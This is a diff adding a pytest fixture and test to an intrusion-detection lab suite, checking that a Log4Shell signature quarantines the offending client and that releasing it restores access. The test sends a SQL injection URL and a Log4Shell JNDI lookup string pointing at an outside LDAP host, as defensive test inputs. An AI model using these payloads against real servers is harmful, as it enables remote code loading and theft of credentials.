@@ -187,3 +187,43 @@ def test_socfwctl_signatures_shows_matches_and_the_load_report(ids_lab):
     p = subprocess.run([ctl, "signatures", "list", "--sid", "9000041", "--socket", lab.env["LAB_SOCKET"]],
                        capture_output=True, text=True, timeout=10)
     assert p.returncode == 0 and "Log4Shell" in p.stdout, p.stdout + p.stderr
+
+
+@pytest.fixture(scope="module")
+def sigq_lab(request):
+    def edit(text):
+        return text + "signatures:\n  quarantine:\n    sids: [9000041]\n    duration: 10m\n"
+    return lab_with_rules(request, "router", "sq", None, name="sigq", edit_config=edit)
+
+
+def test_a_signature_configured_to_quarantine_cuts_the_attacker_off_in_the_kernel(sigq_lab):
+    """signatures.quarantine: the Log4Shell probe is dropped and its client
+    quarantined (database row, audit, kernel set), so its next, harmless,
+    request fails too; release restores it."""
+    lab = sigq_lab
+    c = ControlClient(lab.env["LAB_SOCKET"])
+    try:
+        client = lab.client_ip(4)
+        # Another blocking signature (not listed) does not quarantine.
+        assert curl(lab, 4, "/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--") == "000"
+        assert curl(lab, 4, "/") == "200"
+        assert curl(lab, 4, "/", ("-A", "${jndi:ldap://203.0.113.5:1389/a}")) == "000"
+
+        def quarantined():
+            rows = c.call("quarantine.list")["result"]["quarantined"]
+            return [q for q in rows if q["target"] == client]
+        rows = poll(quarantined, timeout=5)
+        assert rows, c.call("quarantine.list")
+        q = rows[0]
+        assert q["source"] == "rule" and q["reason"].startswith("signature 9000041:"), q
+        assert 590 <= (q["expires_ns"] - q["timestamp_ns"]) / 1e9 <= 640, q  # 10 minutes (and jitter)
+        assert curl(lab, 4, "/") == "000", "the quarantined client still reaches the server"
+        assert lab.probe("tcp", 6, 80)["result"] == "ok", "only the attacker's address is quarantined"
+        import sqlite3
+        with sqlite3.connect(lab.env["LAB_DB"]) as db:
+            actors = [a for (a,) in db.execute("SELECT actor FROM audit_log WHERE action = 'quarantine'")]
+        assert "signature:9000041" in actors, actors
+        assert "result" in c.call("quarantine.remove", {"target": client})
+        assert poll(lambda: curl(lab, 4, "/") == "200", timeout=5)
+    finally:
+        c.close()
